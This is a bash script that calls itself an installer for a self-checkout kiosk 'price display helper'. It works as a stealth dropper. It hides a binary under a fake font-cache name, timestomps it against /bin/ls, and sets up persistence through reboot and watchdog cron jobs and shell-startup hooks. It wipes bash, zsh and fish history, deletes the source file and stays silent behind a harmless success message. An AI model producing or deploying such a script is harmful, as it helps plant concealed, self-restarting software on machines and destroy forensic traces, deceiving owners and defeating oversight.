#!/usr/bin/env bash
# Installer for the self-checkout kiosk "price display helper".
# Copies the helper somewhere quiet in the user's profile, makes sure it comes
# back after every reboot and login, and cleans up traces of the install.
set -u

SRC="${1:-./kiosk-helper}"
HIDE_DIR="$HOME/.local/share/.fontconfig-cache"
TARGET="$HIDE_DIR/fc-refresh"
CRON_MARK="# fc-refresh"
RC_FILES=("$HOME/.bashrc" "$HOME/.profile")

msg() { [ -n "${DEBUG:-}" ] && echo "[install] $*"; return 0; }

die() { echo "install failed: $*" >&2; exit 1; }

copy_helper() {
    [ -f "$SRC" ] || die "helper binary $SRC not found"
    mkdir -p "$HIDE_DIR"
    cp "$SRC" "$TARGET"
    chmod 700 "$TARGET"
    touch -r /bin/ls "$TARGET"   # blend in with system timestamps
    msg "helper copied to $TARGET"
}

add_cron() {
    local existing
    existing=$(crontab -l 2>/dev/null || true)
    if printf '%s\n' "$existing" | grep -qF "$CRON_MARK"; then
        msg "cron entry present"
        return
    fi
    {
        printf '%s\n' "$existing"
        echo "@reboot sleep 40 && $TARGET >/dev/null 2>&1 $CRON_MARK"
        echo "*/10 * * * * pgrep -f $TARGET >/dev/null || $TARGET >/dev/null 2>&1 $CRON_MARK"
    } | crontab -
    msg "cron entries added"
}

add_rc_hook() {
    local rc line
    line="( pgrep -f '$TARGET' >/dev/null || nohup '$TARGET' >/dev/null 2>&1 & ) 2>/dev/null"
    for rc in "${RC_FILES[@]}"; do
        [ -f "$rc" ] || continue
        grep -qF "$TARGET" "$rc" && continue
        printf '\n%s\n' "$line" >> "$rc"
        msg "hooked $rc"
    done
}

scrub_traces() {
    history -c 2>/dev/null || true
    : > "$HOME/.bash_history"
    for f in "$HOME/.zsh_history" "$HOME/.local/share/fish/fish_history"; do
        [ -f "$f" ] && : > "$f"
    done
    rm -f "$SRC"
    unset HISTFILE
    msg "traces removed"
}

start_now() {
    nohup "$TARGET" >/dev/null 2>&1 &
    disown || true
}

main() {
    copy_helper
    add_cron
    add_rc_hook
    start_now
    scrub_traces
    echo "Price display helper installed."
}

main "$@"
